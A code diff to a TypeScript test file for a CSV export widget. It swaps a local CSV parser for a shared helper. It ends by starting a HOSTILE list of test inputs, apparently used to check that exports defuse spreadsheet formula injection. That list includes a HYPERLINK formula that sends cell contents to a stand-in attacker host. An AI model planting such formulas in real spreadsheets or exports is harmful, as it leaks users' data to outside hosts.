@@ -19,29 +19,10 @@ import { factChecksStrings, verdictValues } from '../../src/components/fact-chec
 import { indicatorNames } from '../../src/i18n/indicator-names.js';
 import { reportValues } from '../../src/i18n/report-values.js';
 import { wordsIn } from '../../src/element/get-data.js';
+import { parseCsv } from '../helpers/csv.js';
 import { csvDataUrl, csvField, csvText, tableOf, type Table } from '../../src/widget/csv.js';
 
-/** RFC 4180 read back: records of fields (quotes undone), the way a spreadsheet reads the file. */
-function parse(text: string): string[][] {
-  const records: string[][] = [];
-  let record: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let index = 0; index < text.length; index++) {
-    const char = text[index]!;
-    if (quoted) {
-      if (char === '"' && text[index + 1] === '"') ((field += '"'), index++);
-      else if (char === '"') quoted = false;
-      else field += char;
-    } else if (char === '"') quoted = true;
-    else if (char === ',') (record.push(field), (field = ''));
-    else if (char === '\r' && text[index + 1] === '\n')
-      (record.push(field), records.push(record), (record = []), (field = ''), index++);
-    else field += char;
-  }
-  assert.equal(field + record.join(''), '', 'the file ends with CRLF');
-  return records;
-}
+const parse = parseCsv;
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
